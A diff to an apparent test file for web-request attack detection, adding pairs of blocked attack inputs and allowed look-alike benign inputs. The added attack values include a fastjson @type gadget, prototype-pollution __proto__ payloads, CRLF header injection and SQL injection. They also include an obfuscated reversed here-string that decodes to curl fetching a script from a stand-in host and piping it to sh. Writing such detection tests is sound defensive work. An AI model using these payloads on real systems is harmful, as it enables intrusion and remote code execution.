@@ -4,7 +4,8 @@
  * a restriction, a JS tagged-template call or an empty infinite loop, a quoted or caret-broken cmd word
  * after a separator, a command word spliced with an empty expansion, a Cookie string naming a session id
  * inside a value, a metadata address in a rare notation, an EL read of a request header, a SQL server
- * variable. Each blocks its attack wherever the value sits and stays quiet on the benign text
+ * variable, a percent-encoded @type, a __proto__ key in an encoded JSON value, a header after a line
+ * break, a reversed here-string piped to sh. Each blocks its attack wherever the value sits and stays quiet on the benign text
  * closest to it (a Rails session cookie, gzip'd JSON state, a theme template, a PHP settings form, a
  * Markdown code span, a search with quotes and a pipe, a regex anchor, ANSI colours in a script).
  */
@@ -80,6 +81,11 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001660, 'the ECS task endpoint in hex wildcard DNS', json('{"webhook":"http://a9feaa02.nip.io/v2/credentials"}'), json('{"webhook":"https://a9feaa02.example.dev/hooks"}')],
   [9001660, 'a protocol-relative URL to a container service port', form('src=%2F%2Fvault%3A8200%2Fv1%2Fsecret'), json('{"cdn":"//static.example.com:8443/app.js"}')],
   [9001661, 'an EL read of a request header by a quoted key', q('name=%24%7Bheader%5B%22User-Agent%22%5D%7D'), json('{"route":"from(\\"direct:a\\").log(\\"${header.foo} ${body}\\")"}')],
+  [9001607, 'a %40type naming a JDK class in a URL-encoded JSON query value', q('cb=%7B%22%40type%22%3A%22java.lang.AutoCloseable%22%2C%22%40type2%22%3A%22java.io.FileOutputStream%22%7D'), form('ld=%7B%22%40context%22%3A%22https%3A%2F%2Fschema.org%22%2C%22%40type%22%3A%22Product%22%7D')],
+  [9001622, 'a URL-encoded JSON form value with a __proto__ object', form('profile=%7B%22a%22%3A%7B%22__proto__%22%3A%7B%22isAdmin%22%3Atrue%7D%7D%7D'), form('comment=Never+merge+%7B%22__proto__%22%3A+%7B%7D%7D+from+user+input%2C+see+CVE-2019-10744')],
+  [9001622, 'a value starting with #__proto__.', q('next=%23__proto__.polluted%3D1'), q('next=%2Fdocs%23__proto__-explained')],
+  [9001652, 'a line break then X-Forwarded-For after a short form value', form('q=289%0AX-Forwarded-For%3A127.0.0.1%0A'), form('message=Our+proxy+sets%0AX-Forwarded-For%3A+the+client+address%2C+is+that+right%3F')],
+  [9001642, 'a reversed here-string piped to sh, percent-encoded', form("x=%24(rev%3C%3C%3C'hs.a%2Ftset.x%2F%2F%3Aptth+lruc'%7Csh)"), json('{"body":"`rev <<< \\"olleh\\"` prints hello"}')],
   [9000118, 'a SQL server variable as a whole JSON value', json('{"filter":"@@version"}'), json('{"diff":"@@ -1,3 +1,4 @@ version bump"}')],
   [9000118, 'a SQL server variable inside concat()', q('id=1%20and%20extractvalue(1%2Cconcat(0x7e%2C%40%40datadir))'), q('q=email+me%40%40example+version')],
 ];
